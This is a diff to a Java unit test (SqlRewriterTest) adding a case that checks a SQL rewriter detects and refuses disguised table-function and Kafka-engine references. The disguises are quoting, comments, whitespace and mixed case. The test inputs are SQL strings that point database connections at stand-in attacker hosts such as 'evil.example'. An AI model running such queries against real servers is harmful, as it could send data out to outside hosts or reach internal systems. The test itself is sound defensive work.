@@ -103,6 +103,22 @@ class SqlRewriterTest {
     }
 
     @Test
+    void quotedFunctionNamesAndCommentsCannotHideAReference() {
+        for (String sql : List.of(
+                "SELECT * FROM `mysql`('evil.example:3306', 'crm', 't', 'u', 'p')",
+                "SELECT * FROM \"PostgreSQL\"('evil.example:5432', 'shop', 't', 'u', 'p')",
+                "SELECT * FROM mysql /* hidden */ ('evil.example:3306', 'crm', 't', 'u', 'p')",
+                "SELECT * FROM mysql -- hidden\n('evil.example:3306', 'crm', 't', 'u', 'p')",
+                "SELECT * FROM mysql\n\t('evil.example:3306', 'crm', 't', 'u', 'p')",
+                "CREATE TABLE q (s String) ENGINE = kAfKa SETTINGS kafka_broker_list = 'evil:9092'")) {
+            assertThat(SqlRewriter.mightReference(sql)).as(sql).isTrue();
+            assertThatThrownBy(() -> SqlRewriter.rewriteSql(sql, RESOLVER)).as(sql)
+                    .isInstanceOf(RewriteRefusedException.class);
+        }
+        assertThat(SqlRewriter.analyze("SELECT `mysql` FROM t").isEmpty()).as("a quoted column is not a call").isTrue();
+    }
+
+    @Test
     void aNamedCollectionReferencePassesAsWritten() {
         String sql = "SELECT * FROM postgresql(shop_pg, table = 'orders')";
         assertThat(SqlRewriter.rewriteSql(sql, RESOLVER)).isSameAs(sql);
